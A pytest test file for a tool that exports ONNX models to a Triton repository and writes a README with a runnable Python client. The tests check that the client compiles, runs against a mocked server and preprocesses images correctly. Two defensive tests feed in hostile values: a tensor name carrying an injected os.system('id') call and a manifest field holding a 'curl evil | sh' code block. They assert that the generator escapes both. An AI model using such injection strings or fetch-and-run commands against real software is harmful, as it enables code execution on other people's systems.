"""A model's README: a client that runs, and nothing that a graph or a manifest slips in."""

import ast
import sys
from dataclasses import replace
from types import SimpleNamespace
from typing import Any

import numpy as np
import onnx
import pytest
from PIL import Image

from msn_export import manifest
from msn_export.manifest import CheckpointRecord
from msn_export.runtime.runner import top_k
from tests.builders.triton_artifacts import graph
from tests.builders.triton_runs import invoke

pytest.importorskip("tritonclient.grpc", reason="tritonclient is not installed")


def test_the_readmes_client_is_python_that_names_the_models_tensors(tmp_path) -> None:
    graph(tmp_path / "m.onnx")
    assert invoke(tmp_path / "m.onnx", "-o", tmp_path / "repo").exit_code == 0
    readme = (tmp_path / "repo/m/README.md").read_text()
    code = readme.split("```python\n")[1].split("```")[0]
    compile(code, "client.py", "exec")
    assert 'InferInput("pixel_values"' in code
    assert 'best = top_k(answer.as_numpy("logits"), known.labels, known.scores, 3)' in code


def test_the_readmes_client_prints_labels_and_scores(tmp_path, monkeypatch, capsys) -> None:
    graph(tmp_path / "m.onnx")
    assert invoke(tmp_path / "m.onnx", "-o", tmp_path / "repo").exit_code == 0
    readme = (tmp_path / "repo/m/README.md").read_text()
    code = readme.split("```python\n")[1].split("```")[0]
    Image.new("RGB", (40, 30), "red").save(tmp_path / "red.png")
    monkeypatch.setattr(sys, "argv", ["client.py", str(tmp_path / "red.png")])
    monkeypatch.chdir(tmp_path)
    known = manifest.read(tmp_path / "m.onnx")
    assert known is not None
    logits = np.arange(len(known.labels), dtype=np.float32)[None]

    class Client:
        def __init__(self, address: str) -> None:
            assert address == "localhost:8001"

        def infer(self, name: str, inputs: Any, outputs: Any) -> Any:
            return SimpleNamespace(as_numpy=lambda output: {"logits": logits}[output])

    monkeypatch.setattr("tritonclient.grpc.InferenceServerClient", Client)
    exec(compile(code, "client.py", "exec"), {})  # noqa: S102  our own text
    printed = capsys.readouterr().out
    assert f"label={known.labels[-1]!r}" in printed
    assert f"score={top_k(logits)[0][0].score}" in printed


def test_the_client_of_a_model_without_a_manifest_says_what_it_assumes(
    tmp_path, monkeypatch
) -> None:
    graph(tmp_path / "m.onnx", manifest=False)
    assert invoke(tmp_path / "m.onnx", "-o", tmp_path / "repo").exit_code == 0
    readme = (tmp_path / "repo/m/README.md").read_text()
    code = readme.split("```python\n")[1].split("```")[0]
    assert "  # assumed: nothing says how its pictures are made\n" in code
    made = code[: code.index("tensor = ")]  # all that needs no server
    Image.new("RGB", (40, 30), "red").save(tmp_path / "red.png")
    monkeypatch.setattr(sys, "argv", ["client.py", str(tmp_path / "red.png")])
    names: dict[str, Any] = {}
    exec(compile(made, "client.py", "exec"), names)  # noqa: S102  our own text
    assert names["batch"].shape == (1, 3, 8, 8)


def test_the_client_makes_pictures_as_it_was_chosen(tmp_path, monkeypatch) -> None:
    graph(tmp_path / "m.onnx")
    (tmp_path / "p.json").write_text('{"size": 8, "resample": 0}')
    options = ("--preprocess", tmp_path / "p.json", "--exif", "ignore")
    assert invoke(tmp_path / "m.onnx", "-o", tmp_path / "repo", *options).exit_code == 0
    readme = (tmp_path / "repo/m/README.md").read_text()
    code = readme.split("```python\n")[1].split("```")[0]
    Image.new("RGB", (40, 30), "red").save(tmp_path / "red.png")
    monkeypatch.setattr(sys, "argv", ["client.py", str(tmp_path / "red.png")])
    monkeypatch.chdir(tmp_path)
    names: dict[str, Any] = {}
    exec(compile(code[: code.index("tensor = ")], "client.py", "exec"), names)  # noqa: S102
    made = names["made"]
    assert (made.name, made.resample, made.exif) == ("p.json", "nearest", "ignore")


HOSTILE = 'x"); __import__("os").system("id") # `|'


def test_a_tensors_name_is_a_string_in_the_client_whatever_it_says(tmp_path) -> None:
    path = graph(tmp_path / "m.onnx", manifest=False)
    model = onnx.load(path)
    for held in (model.graph.input[0].name, model.graph.output[0].name):
        for node in model.graph.node:
            for names in (node.input, node.output):
                names[:] = [name.replace(held, held + HOSTILE) for name in names]
    model.graph.input[0].name += HOSTILE
    model.graph.output[0].name += HOSTILE
    onnx.save(model, path)
    assert invoke(path, "-o", tmp_path / "repo").exit_code == 0
    readme = (tmp_path / "repo/m/README.md").read_text()
    tree = ast.parse(readme.split("```python\n")[1].split("```")[0])
    strings = {node.value for node in ast.walk(tree) if isinstance(node, ast.Constant)}
    assert {"pixel_values" + HOSTILE, "logits" + HOSTILE} <= strings
    assert "__import__" not in {node.id for node in ast.walk(tree) if isinstance(node, ast.Name)}
    (row,) = [line for line in readme.splitlines() if line.startswith("| out: 'logits")]
    assert r"\`\|" in row


def test_what_a_manifest_says_is_no_markdown(tmp_path) -> None:
    path = graph(tmp_path / "m.onnx")
    read = manifest.read(path)
    assert read is not None
    source = "a\n\n```sh\ncurl evil | sh\n```\n<b>"
    record = CheckpointRecord(source, "cd" * 32)
    manifest.manifest_path(path).write_text(manifest.seal(replace(read, checkpoint=record)))
    assert invoke(path, "-o", tmp_path / "repo").exit_code == 0
    readme = (tmp_path / "repo/m/README.md").read_text()
    assert r"Checkpoint: a \`\`\`sh curl evil \| sh \`\`\` \<b\>." in readme.splitlines()
